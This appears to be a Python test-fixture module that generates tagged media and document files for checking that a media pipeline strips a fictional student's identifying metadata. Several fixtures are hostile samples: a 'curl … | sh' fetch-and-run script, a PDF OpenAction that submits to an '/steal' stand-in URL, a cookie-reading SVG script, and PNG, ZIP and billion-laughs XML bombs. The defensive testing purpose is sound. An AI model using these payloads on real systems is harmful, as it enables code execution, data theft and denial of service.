"""Real media files for the media pipeline's tests and benchmarks.

Good files come from FFmpeg's lavfi sources, Pillow, reportlab and python-docx, tagged the way phones and
desktop apps tag them (names, places, dates, devices). Bad files are good ones truncated, bit-flipped,
re-wrapped or lied about, plus the few that only exist as text (playlists, scripts, SVG).
"""

from __future__ import annotations

import json
import shutil
import struct
import subprocess
import zipfile
import zlib
from collections.abc import Iterable
from pathlib import Path
from typing import Any

import docx
import pillow_heif
from PIL import Image, ImageCms, ImageDraw
from pypdf import PdfReader, PdfWriter
from pypdf.actions import JavaScript
from pypdf.generic import DictionaryObject, NameObject, TextStringObject
from reportlab.lib.pagesizes import A4
from reportlab.pdfgen import canvas

from submissions.media.ffmpeg import ffmpeg_binary

pillow_heif.register_heif_opener()

ENTRANT = "Nguyễn Thị Lan"
SCHOOL = "THCS Trần Phú"
DEVICE_MODEL = "iPhone 15 Pro"
SOFTWARE = "Lightroom Mobile 9.2"
LATITUDE, LONGITUDE = 21.028511, 105.854167
ISO6709 = "+21.0285+105.8542+012.000/"
SECRET_DATE = "2024-05-01T10:00:00Z"
# Strings that must never appear in a rendition, in tags or anywhere in the bytes.
IDENTIFIERS: tuple[str, ...] = (
    ENTRANT,
    "Nguyen Thi Lan",
    SCHOOL,
    DEVICE_MODEL,
    SOFTWARE,
    "21.0285",
    "105.854",
    "IMG_4521",
    "bai-du-thi-cua-lan",
    "Lavf",
    "Lavc",
    "x264 - core",
    "ReportLab",
    "pypdf",
    "Microsoft Office Word",
    "python-docx",
)
ESSAY_TEXT = (
    "Không một mình – Cùng nhau an toàn trực tuyến.\n\n"
    "Khi một người lạ trên mạng hứa tặng quà và bảo em giữ bí mật, em cần dừng lại, "
    "không gửi ảnh, không gặp riêng và kể ngay với bố mẹ hoặc thầy cô.\n\n"
    "Niềm tin số được xây từ những điều nhỏ: mật khẩu mạnh, kiểm tra đường link, và luôn hỏi người lớn."
)


def run_ffmpeg(*args: str | Path, timeout: float = 120) -> None:
    command = [ffmpeg_binary(), "-hide_banner", "-nostdin", "-v", "error", "-y", *map(str, args)]
    subprocess.run(command, check=True, timeout=timeout, capture_output=True)


def container_tags() -> list[str]:
    tags = {
        "title": f"Bài dự thi của {ENTRANT}",
        "artist": ENTRANT,
        "album": SCHOOL,
        "comment": f"Quay tại {SCHOOL}",
        "description": f"{ENTRANT} – {SCHOOL}",
        "location": ISO6709,
        "creation_time": SECRET_DATE,
        "encoder": SOFTWARE,
    }
    return [arg for key, value in tags.items() for arg in ("-metadata", f"{key}={value}")]


def stream_tags() -> list[str]:
    return [
        "-metadata:s:v:0", f"title=Camera của {ENTRANT}",
        "-metadata:s:v:0", f"handler_name=Core Media Video {DEVICE_MODEL}",
        "-metadata:s:a:0", f"handler_name=Core Media Audio {DEVICE_MODEL}",
    ]  # fmt: skip


VIDEO_CODECS: dict[str, list[str]] = {
    ".mp4": ["-c:v", "libx264", "-preset", "ultrafast", "-c:a", "aac"],
    ".mov": ["-c:v", "libx264", "-preset", "ultrafast", "-c:a", "aac"],
    ".3gp": ["-c:v", "libx264", "-preset", "ultrafast", "-c:a", "aac", "-ar", "16000", "-ac", "1"],
    ".mkv": ["-c:v", "libx264", "-preset", "ultrafast", "-c:a", "libvorbis"],
    ".webm": ["-c:v", "libvpx-vp9", "-deadline", "realtime", "-cpu-used", "8", "-c:a", "libopus"],
}


def make_video(
    path: Path,
    *,
    seconds: float = 2,
    size: str = "320x240",
    rate: int = 25,
    audio: bool = True,
    tagged: bool = True,
    faststart: bool = False,
    noise: bool = False,
) -> Path:
    """A clip from lavfi (moving test pattern, optional film-grain noise, a sine tone), tagged like a phone's."""
    picture = f"testsrc2=size={size}:rate={rate}:duration={seconds}"
    if noise:
        picture += ",noise=alls=12:allf=t+u"
    args: list[str] = ["-f", "lavfi", "-i", picture]
    if audio:
        args += ["-f", "lavfi", "-i", f"sine=frequency=440:sample_rate=48000:duration={seconds}"]
    args += VIDEO_CODECS[path.suffix] + ["-pix_fmt", "yuv420p"]
    if tagged:
        args += container_tags() + stream_tags()
        if path.suffix in (".mp4", ".mov"):
            args += ["-movflags", "use_metadata_tags" + ("+faststart" if faststart else "")]
            args += ["-metadata", f"com.apple.quicktime.location.ISO6709={ISO6709}"]
            args += ["-metadata", f"com.apple.quicktime.model={DEVICE_MODEL}"]
    elif faststart:
        args += ["-movflags", "+faststart"]
    run_ffmpeg(*args, path)
    return path


def make_video_with_chapters(path: Path, work_dir: Path) -> Path:
    """An MKV with tags and a named chapter."""
    chapters = work_dir / "chapters.ffmeta"
    chapters.write_text(
        f";FFMETADATA1\ntitle=Phim của {ENTRANT}\n[CHAPTER]\nTIMEBASE=1/1000\nSTART=0\nEND=1000\n"
        f"title=Chương 1 – {SCHOOL}\n",
        encoding="utf-8",
    )
    source = make_video(work_dir / "chapters-source.mkv", tagged=False)
    run_ffmpeg("-i", source, "-i", chapters, "-map", "0", "-map_metadata", "1", "-map_chapters", "1",
               "-c", "copy", *container_tags(), path)  # fmt: skip
    return path


def make_rotated_phone_video(path: Path, work_dir: Path, *, degrees: int = 90) -> Path:
    """Portrait phone footage: landscape frames plus a display matrix saying "turn me"."""
    source = make_video(work_dir / f"landscape-{degrees}.mov", size="320x180")
    run_ffmpeg("-display_rotation", str(degrees), "-i", source, "-map", "0", "-c", "copy",
               "-movflags", "use_metadata_tags", "-map_metadata", "0", path)  # fmt: skip
    return path


AUDIO_CODECS: dict[str, list[str]] = {
    ".mp3": ["-c:a", "libmp3lame", "-b:a", "96k", "-id3v2_version", "3"],
    ".wav": ["-c:a", "pcm_s16le"],
    ".m4a": ["-c:a", "aac", "-b:a", "96k", "-movflags", "+faststart"],
    ".ogg": ["-c:a", "libvorbis"],
    ".flac": ["-c:a", "flac"],
}


def make_audio(path: Path, *, seconds: float = 3, tagged: bool = True) -> Path:
    args: list[str] = ["-f", "lavfi", "-i", f"sine=frequency=330:sample_rate=44100:duration={seconds}"]
    args += AUDIO_CODECS[path.suffix]
    if tagged:
        args += container_tags()
    run_ffmpeg(*args, path)
    return path


def make_declared_long(path: Path, source: Path, *, factor: int = 20_000) -> Path:
    """A tiny file whose timestamps claim hours: the same packets, stretched with -itsscale."""
    run_ffmpeg("-itsscale", str(factor), "-i", source, "-map", "0", "-c", "copy", path)
    return path


def make_many_streams(path: Path, *, audio_streams: int = 24) -> Path:
    args: list[str] = ["-f", "lavfi", "-i", "testsrc2=size=160x120:rate=10:duration=1",
                       "-f", "lavfi", "-i", "sine=duration=1", "-map", "0:v"]  # fmt: skip
    args += ["-map", "1:a"] * audio_streams
    run_ffmpeg(*args, "-c:v", "libx264", "-preset", "ultrafast", "-c:a", "pcm_s16le", path)
    return path


def make_attachment_only(path: Path, work_dir: Path) -> Path:
    """A Matroska file with no audio or video stream, only an attached file."""
    note = work_dir / "note.txt"
    note.write_text(f"{ENTRANT}\n", encoding="utf-8")
    run_ffmpeg("-attach", note, "-metadata:s:t", "mimetype=text/plain", "-f", "matroska", path)
    return path


def make_subtitles_only(path: Path, work_dir: Path) -> Path:
    """A Matroska file whose only stream is subtitles."""
    subtitles = work_dir / "subtitles.srt"
    subtitles.write_text("1\n00:00:00,000 --> 00:00:01,000\nXin chào\n", encoding="utf-8")
    run_ffmpeg("-i", subtitles, "-c:s", "srt", "-f", "matroska", path)
    return path


def make_transport_stream(path: Path) -> Path:
    run_ffmpeg("-f", "lavfi", "-i", "testsrc2=size=160x120:rate=10:duration=1",
               "-c:v", "libx264", "-preset", "ultrafast", "-f", "mpegts", path)  # fmt: skip
    return path


def make_hls_playlist(path: Path, segment: Path) -> Path:
    path.write_text(
        f"#EXTM3U\n#EXT-X-VERSION:3\n#EXT-X-TARGETDURATION:2\n#EXTINF:1.0,\n{segment}\n#EXT-X-ENDLIST\n",
        encoding="utf-8",
    )
    return path


def make_ffconcat_playlist(path: Path, target: Path) -> Path:
    """A concat list naming `target`, which must sit beside it (FFmpeg's "safe" mode takes only such names)."""
    path.write_text(f"ffconcat version 1.0\nfile {target.relative_to(path.parent)}\n", encoding="utf-8")
    return path


def truncated(source: Path, path: Path, *, keep: float = 0.5) -> Path:
    data = source.read_bytes()
    path.write_bytes(data[: int(len(data) * keep)])
    return path


def bit_flipped(source: Path, path: Path, *, start: float = 0.1, every: int = 97) -> Path:
    """Every `every`-th byte inverted from `start` of the file on: what a bad card or cable does."""
    data = bytearray(source.read_bytes())
    for index in range(int(len(data) * start), len(data), every):
        data[index] ^= 0xFF
    path.write_bytes(bytes(data))
    return path


def appended(source: Path, path: Path, payload: bytes) -> Path:
    path.write_bytes(source.read_bytes() + payload)
    return path


# --- pictures ---------------------------------------------------------------------------------------------


def photo_pixels(width: int, height: int) -> Image.Image:
    """A photo-like picture whose left half is red and right half blue, so orientation can be checked."""
    image = Image.effect_noise((width, height), 40).convert("RGB")
    overlay = Image.new("RGB", (width, height), (200, 30, 30))
    ImageDraw.Draw(overlay).rectangle((width // 2, 0, width, height), fill=(30, 30, 200))
    return Image.blend(image, overlay, 0.85)


def identifying_exif(orientation: int = 6) -> Image.Exif:
    exif = Image.Exif()
    exif[0x010F] = "Apple"  # Make
    exif[0x0110] = DEVICE_MODEL  # Model
    exif[0x0131] = SOFTWARE  # Software
    exif[0x013B] = ENTRANT  # Artist
    exif[0x010E] = f"Ảnh của {ENTRANT}"  # ImageDescription
    exif[0x0132] = "2024:05:01 10:00:00"  # DateTime
    exif[0x0112] = orientation
    exif[0x8298] = f"© {ENTRANT}"  # Copyright
    exif_ifd = exif.get_ifd(0x8769)
    exif_ifd[0x9003] = "2024:05:01 10:00:00"  # DateTimeOriginal
    exif_ifd[0xA431] = "F2LXK0Q1N0D3"  # BodySerialNumber
    gps = exif.get_ifd(0x8825)
    gps[1], gps[2] = "N", _dms(LATITUDE)
    gps[3], gps[4] = "E", _dms(LONGITUDE)
    return exif


def _dms(degrees: float) -> tuple[float, float, float]:
    whole = int(degrees)
    minutes = (degrees - whole) * 60
    return float(whole), float(int(minutes)), round((minutes - int(minutes)) * 60, 2)


def xmp_packet() -> bytes:
    return (
        '<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/">'
        '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description '
        f'xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:creator>{ENTRANT}</dc:creator>'
        f"<dc:description>{SCHOOL}</dc:description></rdf:Description></rdf:RDF></x:xmpmeta>"
        '<?xpacket end="w"?>'
    ).encode()


def icc_profile() -> bytes:
    profile = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB"))
    return profile.tobytes()


def make_phone_jpeg(path: Path, *, width: int = 640, height: int = 480, orientation: int = 6) -> Path:
    """A JPEG as a phone writes it: EXIF with GPS, device and dates, orientation 6 (shot in portrait), an
    ICC profile, XMP and a comment."""
    photo_pixels(width, height).save(
        path,
        "JPEG",
        quality=90,
        exif=identifying_exif(orientation),
        icc_profile=icc_profile(),
        comment=f"{ENTRANT} {SCHOOL}".encode(),
        xmp=xmp_packet(),
    )
    return path


def make_png(path: Path, *, width: int = 400, height: int = 300) -> Path:
    from PIL import PngImagePlugin

    info = PngImagePlugin.PngInfo()
    info.add_text("Author", ENTRANT)
    info.add_text("Comment", SCHOOL)
    info.add_itxt("XML:com.adobe.xmp", xmp_packet().decode())
    picture = photo_pixels(width, height).convert("RGBA")
    ImageDraw.Draw(picture).rectangle((0, 0, width // 4, height // 4), fill=(0, 0, 0, 0))  # a clear corner
    picture.save(path, "PNG", pnginfo=info, exif=identifying_exif(1), icc_profile=icc_profile())
    return path


def make_webp(path: Path, *, width: int = 400, height: int = 300) -> Path:
    photo_pixels(width, height).save(
        path, "WEBP", quality=80, exif=identifying_exif(1), xmp=xmp_packet(), icc_profile=icc_profile()
    )
    return path


def make_heic(path: Path, *, width: int = 400, height: int = 300) -> Path:
    photo_pixels(width, height).save(path, "HEIF", quality=70, exif=identifying_exif(1).tobytes())
    return path


def make_png_header_claiming(path: Path, width: int, height: int) -> Path:
    """A real 1×1 PNG whose header is then edited to claim another size (the CRC is fixed up)."""
    Image.new("RGB", (1, 1), "white").save(path, "PNG")
    data = bytearray(path.read_bytes())
    ihdr = 12  # signature (8) + length (4)
    data[ihdr + 4 : ihdr + 12] = struct.pack(">II", width, height)
    crc = zlib.crc32(bytes(data[ihdr : ihdr + 17]))
    data[ihdr + 17 : ihdr + 21] = struct.pack(">I", crc)
    path.write_bytes(bytes(data))
    return path


def make_png_bomb(path: Path, *, width: int = 40_000, height: int = 40_000) -> Path:
    """A valid 1-bit PNG of `width`×`height` black pixels: a few hundred KB that inflate to billions of
    pixels. Written chunk by chunk because Pillow would need the whole picture in memory."""
    row = b"\x00" + bytes((width + 7) // 8)
    compressor = zlib.compressobj(9)
    compressed = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    with path.open("wb") as handle:
        handle.write(b"\x89PNG\r\n\x1a\n")
        for chunk_type, body in ((b"IHDR", header), (b"IDAT", compressed), (b"IEND", b"")):
            handle.write(struct.pack(">I", len(body)) + chunk_type + body)
            handle.write(struct.pack(">I", zlib.crc32(chunk_type + body)))
    return path


def make_svg(path: Path) -> Path:
    path.write_text(
        '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100">'
        '<script>alert(document.cookie)</script><circle cx="50" cy="50" r="40"/></svg>\n',
        encoding="utf-8",
    )
    return path


def make_html(path: Path) -> Path:
    path.write_text("<!DOCTYPE html><html><body><script>fetch('/admin')</script></body></html>\n")
    return path


def make_shell_script(path: Path) -> Path:
    path.write_text("#!/bin/sh\ncurl http://example.invalid/x | sh\n")
    return path


# --- documents -------------------------------------------------------------------------------------------


def make_pdf(path: Path, *, pages: int = 2, text: str = ESSAY_TEXT) -> Path:
    """A reportlab PDF with author, title, subject and creator set, and the text on every page."""
    from submissions.media.render.fonts import essay_font

    drawing = canvas.Canvas(str(path), pagesize=A4)
    drawing.setAuthor(ENTRANT)
    drawing.setTitle(f"Bài dự thi – {SCHOOL}")
    drawing.setSubject(SCHOOL)
    drawing.setCreator(SOFTWARE)
    for page in range(pages):
        drawing.setFont(essay_font(), 12)
        for line_number, line in enumerate(text.replace("\n\n", "\n").split("\n")):
            drawing.drawString(60, 780 - 18 * line_number, line[:90])
        drawing.drawString(60, 60, f"Trang {page + 1}")
        drawing.showPage()
    drawing.save()
    return path


def with_javascript(source: Path, path: Path) -> Path:
    """The same PDF plus document JavaScript and an OpenAction that runs JavaScript when opened, and XMP."""
    writer = PdfWriter(clone_from=PdfReader(source))
    writer.add_open_action(JavaScript("app.alert('Xin chào');"))
    writer.root_object[NameObject("/OpenAction")] = DictionaryObject(
        {
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject("this.submitForm('http://example.invalid/steal');"),
        }
    )
    writer.xmp_metadata = xmp_packet()
    with path.open("wb") as handle:
        writer.write(handle)
    return path


def make_docx(path: Path, *, text: str = ESSAY_TEXT) -> Path:
    """A Word file with the author in its properties, the name in the header and a table in the body."""
    document = docx.Document()
    properties = document.core_properties
    properties.author = ENTRANT
    properties.last_modified_by = ENTRANT
    properties.title = f"Bài dự thi – {SCHOOL}"
    properties.comments = SCHOOL
    document.sections[0].header.paragraphs[0].text = f"{ENTRANT} – {SCHOOL}"
    for block in text.split("\n\n"):
        document.add_paragraph(block)
    table = document.add_table(rows=1, cols=2)
    table.rows[0].cells[0].text = "Mật khẩu mạnh"
    table.rows[0].cells[1].text = "Kiểm tra đường link"
    document.save(str(path))
    return path


def rezipped(source: Path, path: Path, *, replace: dict[str, bytes] | None = None,
             add: Iterable[tuple[str, bytes]] = ()) -> Path:  # fmt: skip
    """A copy of a ZIP (DOCX) with some entries replaced or added."""
    replace = replace or {}
    with zipfile.ZipFile(source) as original, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as copy:
        for entry in original.infolist():
            copy.writestr(entry.filename, replace.get(entry.filename, original.read(entry)))
        for name, data in add:
            copy.writestr(name, data)
    return path


def make_docx_zip_bomb(source: Path, path: Path, *, megabytes: int = 64) -> Path:
    """A DOCX carrying a "picture" of zeros that deflates a thousandfold."""
    shutil.copyfile(source, path)
    with (
        zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as archive,
        archive.open("word/media/image9.png", "w") as part,
    ):
        block = bytes(1024**2)
        for _ in range(megabytes):
            part.write(block)
    return path


def billion_laughs_document() -> bytes:
    entities = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{level} "{f"&lol{level - 1};" * 10}">' for level in range(1, 10)
    ]
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        f"<!DOCTYPE w:document [{''.join(entities)}]>\n"
        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        "<w:body><w:p><w:r><w:t>&lol9;</w:t></w:r></w:p></w:body></w:document>"
    ).encode()


# --- reading what we wrote -------------------------------------------------------------------------------


def read_metadata(path: Path) -> dict[str, Any]:
    """Everything exiftool finds in a file (all groups, embedded documents too), less exiftool's own view
    of the file system."""
    output = subprocess.run(
        ["exiftool", "-j", "-a", "-G1", "-ee", "-api", "largefilesupport=1", str(path)],
        check=True,
        capture_output=True,
        timeout=60,
    ).stdout
    tags = json.loads(output)[0]
    return {
        key: value
        for key, value in tags.items()
        if not key.startswith(("System:", "ExifTool:", "SourceFile"))
    }


IDENTIFYING_TAG_WORDS = (
    "GPS", "Author", "Artist", "Title", "Comment", "Location", "ISO6709", "Creator", "Producer", "Software",
    "Encoder", "Make", "Model", "Copyright", "Keywords", "Subject", "Chapter", "Original", "Serial", "Owner",
    "Description", "Album", "ICC", "ProfileDescription", "Lens", "UserComment", "LastModifiedBy", "Writer",
)  # fmt: skip
IDENTIFYING_GROUPS = ("XMP", "ICC", "IPTC", "Photoshop", "IFD0", "ExifIFD", "GPS", "MakerNotes", "ID3", "Vorbis",
                      "Keys", "ItemList", "UserData")  # fmt: skip
HARMLESS_TAGS = frozenset(
    {"Track1:HandlerDescription", "Track2:HandlerDescription", "QuickTime:HandlerVendorID"}
)


def identifying_fields(path: Path, extra_identifiers: Iterable[str] = ()) -> list[str]:
    """Every tag, group or byte string in a rendition that could identify an entrant or their device."""
    problems: list[str] = []
    identifiers = (*IDENTIFIERS, *extra_identifiers)
    for key, value in read_metadata(path).items():
        if key not in HARMLESS_TAGS and _is_identifying(key, str(value), identifiers):
            problems.append(f"{key}={value!r}")
    data = path.read_bytes()
    for identifier in identifiers:
        for encoded in {
            identifier.encode("utf-8"),
            identifier.encode("utf-16-le"),
            identifier.encode("utf-16-be"),
        }:
            if len(encoded) >= 4 and encoded in data:
                problems.append(f"bytes contain {identifier!r}")
    return problems


def _is_identifying(key: str, value: str, identifiers: Iterable[str]) -> bool:
    group, _, name = key.partition(":")
    if group.startswith(IDENTIFYING_GROUPS) or any(
        word.lower() in name.lower() for word in IDENTIFYING_TAG_WORDS
    ):
        return True
    # MP4 keeps date fields, which bitexact writes as zero.
    if "Date" in name and value.strip("0: ") not in ("", "+"):
        return True
    return any(identifier.lower() in value.lower() for identifier in identifiers)
